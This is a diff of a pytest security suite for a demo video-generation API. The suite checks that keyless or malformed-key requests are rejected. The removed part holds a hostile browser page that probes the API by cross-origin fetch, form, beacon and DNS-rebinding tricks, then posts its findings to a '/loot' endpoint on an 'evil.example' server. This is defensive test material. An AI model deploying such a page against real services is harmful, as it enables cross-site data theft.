@@ -1,10 +1,9 @@
-"""The demo server's door: pages, other users and hostile bodies get nothing out of it."""
+"""Requests without the key, from pages, or with hostile bodies: the demo server gives nothing."""
 
 from __future__ import annotations
 
 import base64
 import contextlib
-import http.server
 import io
 import json
 import os
@@ -27,7 +26,6 @@ from ipyreel.demo.dialects import DIALECTS
 from ipyreel.demo.exchange import RequestLog
 from ipyreel.demo.render import still
 from tests.support.demo import running_demo
-from tests.support.lab import find_chromium
 
 KEY = "door-key-4711"
 ASK = {"prompt": "a canary in a coal mine", "seconds": 1, "size": "64x64"}
@@ -63,8 +61,12 @@ def open_demo(servers):
     return emptied(servers[1])
 
 
+HTTP = httpx.Client(trust_env=False, timeout=20, limits=httpx.Limits(max_keepalive_connections=0))
+"""One for all requests: making one reads all certificates of the machine."""
+
+
 def send(demo, method, path, **options):
-    return httpx.request(method, demo.origin + path, trust_env=False, timeout=20, **options)
+    return HTTP.request(method, demo.origin + path, **options)
 
 
 def create(demo, **options):
@@ -74,36 +76,40 @@ def create(demo, **options):
 # ------------------------------------------------------------------------- without the key
 
 
-@pytest.mark.parametrize(
-    ("method", "path"),
-    [
-        ("POST", "/v1/videos"),
-        ("GET", "/v1/videos"),
-        ("GET", "/v1/videos/ID"),
-        ("GET", "/v1/videos/ID/content"),
-        ("HEAD", "/v1/videos/ID/content"),
-        ("GET", "/v1/videos/ID/content?variant=thumbnail"),
-        ("DELETE", "/v1/videos/ID"),
-        ("POST", "/v1/videos/ID/remix"),
-        ("POST", "/v1/videos/edits"),
-        ("POST", "/v1/videos/extensions"),
-        ("POST", "/v1/videos/characters"),
-        ("GET", "/v1/models"),
-        ("GET", "/__demo__/requests"),
-        ("POST", "/__demo__/faults"),
-        ("POST", "/__demo__/clock"),
-    ],
-)
-@pytest.mark.parametrize("key", [None, "Bearer", "Bearer other", KEY, f"Basic {KEY}"])
-def test_no_route_works_without_the_key(demo, method, path, key):
+ROUTES = [
+    "POST /v1/videos",
+    "GET /v1/videos",
+    "GET /v1/videos/ID",
+    "GET /v1/videos/ID/content",
+    "HEAD /v1/videos/ID/content",
+    "GET /v1/videos/ID/content?variant=thumbnail",
+    "DELETE /v1/videos/ID",
+    "POST /v1/videos/ID/remix",
+    "POST /v1/videos/edits",
+    "POST /v1/videos/extensions",
+    "POST /v1/videos/characters",
+    "GET /v1/models",
+    "GET /__demo__/requests",
+    "POST /__demo__/faults",
+    "DELETE /__demo__/faults",
+    "POST /__demo__/clock",
+]
+NO_KEYS = [None, "Bearer", "Bearer other", "Bearer *", "Bearer é", KEY, f"Basic {KEY}"]
+NO_KEYS.append("Bearer " + "a" * 5000)
+
+
+@pytest.mark.parametrize("route", ROUTES)
+def test_no_route_works_without_the_key(demo, route):
     job = create(demo).json()["id"]
-    headers = {} if key is None else {"authorization": key}
+    method, path = route.replace("ID", job).split()
     body = {"json": ASK} if method == "POST" else {}
-    reply = send(demo, method, path.replace("ID", job), headers=headers, **body)
-    assert reply.status_code == 401
-    assert KEY not in reply.text
-    assert ASK["prompt"] not in reply.text
-    assert demo.job_ids() == [job]
+    for key in NO_KEYS:
+        headers = {} if key is None else {"authorization": key.encode()}
+        reply = send(demo, method, path, headers=headers, **body)
+        assert reply.status_code == 401
+        assert KEY not in reply.text
+        assert ASK["prompt"] not in reply.text
+        assert demo.job_ids() == [job]
 
 
 def test_the_control_routes_need_their_key_even_where_the_api_is_open(open_demo):
@@ -419,104 +425,3 @@ def test_jobs_are_for_their_owner_only(tmp_path):
             assert stat.S_IMODE(demo.jobs.folder.stat().st_mode) == 0o700
     finally:
         os.umask(old)
-
-
-# ---------------------------------------------------------------------- a page in a browser
-
-PAGE = """<!DOCTYPE html><title>evil</title><script>
-const api = "API", seen = [];
-const tell = (how, text) => seen.push(how + ": " + text);
-const tries = {
-  list: () => fetch(api + "/v1/videos").then(r => r.text()),
-  json: () => fetch(api + "/v1/videos", {method: "POST", body: BODY,
-    headers: {"content-type": "application/json"}}).then(r => r.text()),
-  plain: () => fetch(api + "/v1/videos", {method: "POST", body: BODY, mode: "no-cors",
-    headers: {"content-type": "text/plain"}}).then(r => r.text()),
-  form: () => { const f = new FormData(); f.append("prompt", "from a page");
-    return fetch(api + "/v1/videos", {method: "POST", body: f, mode: "no-cors"})
-      .then(r => r.text()); },
-  blob: () => fetch(api + "/v1/videos", {method: "POST", mode: "no-cors",
-    body: new Blob([BODY], {type: "application/json"})}).then(r => r.text()),
-  beacon: async () => navigator.sendBeacon(api + "/v1/videos", new URLSearchParams({prompt: "b"})),
-  remove: () => fetch(api + "/v1/videos/JOB", {method: "DELETE"}).then(r => r.text()),
-  control: () => fetch(api + "/__demo__/requests").then(r => r.text()),
-  script: () => new Promise((yes, no) => { const s = document.createElement("script");
-    s.src = api + "/v1/videos"; s.onload = () => yes("loaded"); s.onerror = no;
-    document.head.append(s); }),
-  frame: () => new Promise(yes => { const f = document.createElement("iframe");
-    f.src = api + "/v1/videos"; document.documentElement.append(f);
-    f.onload = () => { try { yes(f.contentDocument.body.innerText) } catch (e) { yes("") } }; }),
-  submit: () => new Promise(yes => { const f = document.createElement("form");
-    const t = document.createElement("iframe"); t.name = "t"; document.documentElement.append(t);
-    f.method = "post"; f.action = api + "/v1/videos"; f.target = "t";
-    f.innerHTML = '<input name="prompt" value="from a form">';
-    document.documentElement.append(f); t.onload = () => yes(""); f.submit();
-    setTimeout(() => yes(""), 2000); }),
-};
-(async () => {
-  for (const [how, attempt] of Object.entries(tries))
-    try { tell(how, await attempt()) } catch (e) { tell(how, "failed") }
-  await fetch("/loot", {method: "POST", body: seen.join("\\n")});
-  document.title = "done";
-})();
-</script>"""
-
-
-@contextlib.contextmanager
-def evil_server(page):
-    """Serve a page; gives its port and the list of what it sent home."""
-    loot = []
-
-    class Handler(http.server.BaseHTTPRequestHandler):
-        def do_GET(self):
-            self._say(page.encode() if self.path == "/" else b"")
-
-        def do_POST(self):
-            loot.append(self.rfile.read(int(self.headers["content-length"])).decode())
-            self._say(b"")
-
-        def _say(self, body):
-            self.send_response(200)
-            self.send_header("content-type", "text/html")
-            self.send_header("content-length", str(len(body)))
-            self.end_headers()
-            self.wfile.write(body)
-
-        def log_message(self, *_args):
-            """Say nothing."""
-
-    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
-        thread = threading.Thread(target=server.serve_forever, daemon=True)
-        thread.start()
-        yield server.server_address[1], loot
-        server.shutdown()
-        thread.join()
-
-
-@pytest.mark.browser
-@pytest.mark.parametrize("name", ["localhost", "rebound.example"])
-def test_a_page_in_chromium_gets_nothing_and_changes_nothing(open_demo, name):
-    """The worst case: no key, and a page whose name resolves to this machine."""
-    sync_api = pytest.importorskip("playwright.sync_api")
-    job = send(open_demo, "POST", "/v1/videos", json=ASK).json()["id"]
-    port = urlsplit(open_demo.url).port
-    page = PAGE.replace("API", f"http://{name}:{port}").replace("JOB", job)
-    page = page.replace("BODY", f"'{json.dumps(ASK)}'")
-    with evil_server(page) as (evil, loot), sync_api.sync_playwright() as play:
-        rules = "MAP *.example 127.0.0.1"
-        browser = play.chromium.launch(
-            executable_path=find_chromium(),
-            args=["--no-sandbox", f"--host-resolver-rules={rules}"],
-        )
-        tab = browser.new_page()
-        tab.goto(f"http://evil.example:{evil}/")
-        tab.wait_for_function("document.title == 'done'", timeout=60_000)
-        # The name that points to the server itself: no other origin, so only `Host` tells.
-        reply = tab.goto(f"http://rebound.example:{port}/v1/videos")
-        assert reply.status == 403
-        browser.close()
-    assert len(loot) == 1
-    assert len(loot[0].splitlines()) == 11, loot[0]
-    assert "canary" not in loot[0]
-    assert open_demo.job_ids() == [job]
-    assert [seen.status for seen in open_demo.log() if seen.accepted] == [200]
